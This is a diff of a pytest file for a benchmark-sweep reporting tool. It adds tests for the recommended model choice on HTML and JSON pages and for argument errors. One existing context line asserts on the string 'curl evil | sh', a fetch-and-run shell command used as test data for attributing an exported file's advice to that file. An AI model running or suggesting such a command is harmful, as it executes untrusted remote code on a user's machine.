@@ -44,6 +44,25 @@ def test_what_an_exported_file_advises_is_called_its_own(tmp_path: Path, capsys:
     assert "The file advises: curl evil | sh" in capsys.readouterr().out
 
 
+def test_a_sweeps_page_has_the_choice(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    same = {"difference": 0.0, "low": -0.001, "high": 0.001, "verdict": "not told apart", "method": "m"}
+    quality = {"metric": "mae_ppm", "samples": 200, "vs_float": same}
+    sweeps.write(tmp_path, [{**one, "quality": quality} for one in sweeps.content()])
+    assert report.main(["--sweep", sweeps.NAME, "--max-loss", "1%", "--html", "page.html"]) == 0
+    shown = Path("page.html").read_text(encoding="utf-8")
+    assert "<strong>Recommended: bilstm int8_dynamic (1 of 2 LSTM) onnxruntime: 0.699 ms a sample" in shown
+    assert "recommended, Pareto" in shown
+    capsys.readouterr()
+    assert report.main(["--sweep", sweeps.NAME, "--max-loss", "1%", "--json"]) == 0
+    assert json.loads(capsys.readouterr().out)["choice"]["picks"][0]["recommended"] == "20261121T090100-00000001"
+
+
+@pytest.mark.parametrize("words", [["--max-loss", "1%"], ["--by", "size"]])
+def test_a_choice_is_among_the_rows_of_a_sweep(words: list[str]) -> None:
+    with pytest.raises(SpecError, match="belong to a sweep's page"):
+        report.main(words)
+
+
 def test_html_is_one_file(capsys: pytest.CaptureFixture[str]) -> None:
     assert report.main(["--html", "page.html"]) == 0
     assert capsys.readouterr().out == "written  page.html\n"
